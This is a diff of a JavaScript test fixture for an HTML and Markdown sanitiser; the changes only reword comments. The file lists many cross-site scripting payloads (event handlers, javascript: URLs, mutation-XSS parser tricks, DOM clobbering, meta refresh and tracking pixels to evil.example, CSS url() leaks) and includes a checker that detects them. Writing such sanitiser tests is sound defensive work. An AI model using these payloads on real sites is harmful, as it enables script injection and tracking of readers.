@@ -1,24 +1,24 @@
-// What hostile cards, models and plugins may send. Each would say so in `window.hacked`, ask evil.example for something, or
-// leave an element that nobody allowed. What may be seen of text from others stands here too.
+// Hostile texts of cards, models and plugins. Each would set `window.hacked`, request evil.example, or leave an element
+// that is not allowed. Also the elements and styles that are allowed.
 const RUN = "window.hacked=1";
 const EVIL = "https://evil.example";
 
-/** Deep, and never closed. */
+/** Deeply nested, and never closed. */
 const deep = (tag, times) => `<${tag}>`.repeat(times);
 
 export const ATTACKS = [
-  // Handlers of events
+  // Event handlers
   `<img src=x onerror="${RUN}">`,
   `<b onmouseover="${RUN}" onclick=${RUN} onfocus=${RUN} tabindex=0 autofocus>x</b>`,
   `<details open ontoggle=${RUN}><summary onclick=${RUN}>x</summary>y</details>`,
   `<p onpointerenter=${RUN} onanimationstart=${RUN} style="animation:blink 1s">x</p>`,
   `<audio src=${EVIL}/a.mp3 autoplay onloadstart=${RUN}></audio><video src=${EVIL}/v.mp4 poster=${EVIL}/p.png onerror=${RUN}></video>`,
-  // Addresses that run
+  // URLs that run code
   `[a](javascript:${RUN}) [b](JaVaScRiPt&colon;${RUN}) [c](java\tscript:${RUN}) [d](\u0001javascript:${RUN}) <javascript:${RUN}>`,
   `<a href="jav&#x09;ascript:${RUN}">a</a><a href=" javascript:${RUN}">b</a><a href="vbscript:x">c</a><a href="data:text/html,<script>${RUN}</script>">d</a>`,
   `[x]: javascript:${RUN}\n\n[x] [y][x] ![z][x]`,
   `<a href=https://example.org ping=${EVIL}/ping target=_top>a</a><map name=m><area href=javascript:${RUN} shape=default></map>`,
-  // Parsed twice, and otherwise the second time
+  // Texts that parse differently the second time
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
@@ -34,14 +34,14 @@ export const ATTACKS = [
   `<svg onload=${RUN}><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
   `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN} /></svg>#x"/><image href=${EVIL}/i.png /></svg>`,
   `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a><set attributeName=onmouseover to=${RUN} /></svg>`,
-  // What belongs to the page
+  // Elements of the page
   `<form id=app action=${EVIL} method=post><input name=body value=x><input name=attributes><button formaction=javascript:${RUN}>send</button></form>`,
   `<a id=cookie name=cookie href=https://example.org>x</a><img name=getElementById><form name=body><p id=app class=topbar>x</p><p id=trustedTypes></p>`,
   `<base href=${EVIL}/ target=_top><meta http-equiv=refresh content="0;url=${EVIL}"><link rel=stylesheet href=${EVIL}/x.css><link rel=prefetch href=${EVIL}/p>`,
   `<meta http-equiv=Content-Security-Policy content="default-src *"><link rel=manifest href=${EVIL}/m><link rel=dns-prefetch href=${EVIL}>`,
   `<template><b onclick=${RUN}></b><script>${RUN}</script></template><template shadowrootmode=open><img src=${EVIL}/s.png></template><slot name=x>y</slot>`,
   `<dialog open><p>Sign in</p></dialog><p popover=manual id=pop>x</p><button popovertarget=pop command=show-popover commandfor=pop>x</button><x-own is=tree-canvas>x</x-own>`,
-  // Pictures that tell on the reader
+  // Tracking pictures
   `![tracker](${EVIL}/pixel.png) <img src=${EVIL}/a.png srcset="${EVIL}/b.png 2x" lowsrc=${EVIL}/c.png dynsrc=${EVIL}/d.png>`,
   `<picture><source srcset=${EVIL}/s.webp><img src="data:image/svg+xml,<svg onload='${RUN}'/>"></picture><input type=image src=${EVIL}/i.png>`,
   `<body background=${EVIL}/b.png><table background=${EVIL}/t.png bgcolor=red><tr><td background=${EVIL}/c.png>x</td></tr></table>`,
@@ -63,7 +63,7 @@ export const ATTACKS = [
   `${`<div style="font-size:9em;line-height:99;padding:99rem;border:99rem solid red;letter-spacing:9em">`.repeat(8)}x`,
   `<i style="opacity:0">a</i><b style="color:transparent;background:white">b</b><u style="color:red!important;background:red!important;text-shadow:0 0 9999px red,0 0 1e9em blue" data-look=0 data-ground=dark>c</u>`,
   `<p data-look=0 data-look=1 style="${"color:red;".repeat(900)}">x</p><div style="background:/**/u/**/rl(${EVIL}/8.png);background:URL(${EVIL}/9.png);filter:url(${EVIL}/f.svg#a);clip-path:url(${EVIL}/c.svg#a)">x</div>`,
-  // Texts that look otherwise than they are
+  // Texts that look different from what they are
   `\u202e<b>txt.exe</b>\u202c \u2066<i>x\u2069 \u200b<scr\u0000ipt>${RUN}</scr\u0000ipt> \uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
   `<<script>${RUN}//<</script> <img/src=x/onerror=${RUN}> <svg/onload=${RUN}> <scr<script>ipt>${RUN}</script> <!--><img src=x onerror=${RUN}>-->`,
   `${deep("div", 600)}<img src=x onerror=${RUN}>`,
@@ -84,14 +84,14 @@ export const ALLOWED = {
 };
 
 /**
- * What the sanitiser itself makes the browser report: it has to parse what it refuses, and empties a script
- * that was cut off before it takes it out. Nothing of it runs or is asked for.
+ * Reports of the browser that the sanitiser itself causes: it must parse what it removes, and it empties a
+ * truncated script before it removes it. Nothing of it runs or is requested.
  */
 export const PARSER_REPORTS =
   /^(style-src-elem|style-src-attr|script-src-attr|base-uri) |^require-trusted-types-for sanitising HTMLScriptElement text\|/;
 
 /**
- * Looks at a whole page, in the page itself.
+ * Checks a whole page, inside the page.
  * @param {{elements: string, attributes: string, looks: string}} may
  */
 export function findUnwanted(may) {
@@ -104,7 +104,7 @@ export function findUnwanted(may) {
   for (const element of document.body.querySelectorAll("*")) {
     for (const { name, value } of element.attributes) {
       if (/^on/i.test(name)) say("handler", element);
-      // A link is asked for by nobody but who presses it; where it may lead is looked at below.
+      // A link requests nothing until it is pressed. Its target is checked below.
       if (name === "href" && element.localName === "a" && /^https?:/.test(value)) continue;
       if (
         /^(href|src|srcset|action|formaction|poster|background|data|xlink:href|ping|style)$/i.test(name) &&
@@ -114,7 +114,7 @@ export function findUnwanted(may) {
     }
   }
   for (const element of document.querySelectorAll(".prose *")) {
-    // The page's own: what is pressed where a picture of another server would stand.
+    // The page's own button in place of a remote picture.
     if (
       element.matches("span[data-outside] > button[type=button]:only-child") &&
       element.attributes.length === 1 &&
